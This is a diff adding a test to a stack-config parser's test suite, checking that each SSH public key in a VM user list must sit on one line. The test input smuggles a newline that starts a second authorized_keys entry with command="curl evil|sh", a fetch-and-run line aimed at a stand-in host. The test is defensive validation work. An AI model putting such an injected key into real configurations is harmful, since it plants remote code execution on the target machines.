@@ -68,6 +68,19 @@ describe("stack config", () => {
     ]);
   });
 
+  it("takes an SSH public key on one line only: a newline would start another authorized_keys entry", () => {
+    const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGr9 varun@thinkpad";
+    const vmUsers = [
+      { name: "varun", sshAuthorizedKeys: [key, `${key}\ncommand="curl evil|sh" ssh-ed25519 AAAAC3Nza x`] },
+    ];
+    expect(problemsOf({ ...minimal, vmUsers })).to.deep.equal([
+      "budgetcloud:vmUsers[0].sshAuthorizedKeys[1]: must be one OpenSSH public key on one line",
+    ]);
+    expect(
+      parseStackConfig(raw({ ...minimal, vmUsers: [{ name: "varun", sshAuthorizedKeys: [key] }] })).config.vmUsers,
+    ).to.have.length(1);
+  });
+
   it("refuses a prefix with host bits set", () => {
     expect(problemsOf({ ...minimal, tenants: [{ ...tenant, cidr: "192.168.111.5/24" }] })).to.deep.equal([
       "budgetcloud:tenants[0].cidr: 192.168.111.5/24 is not an IPv4 prefix",
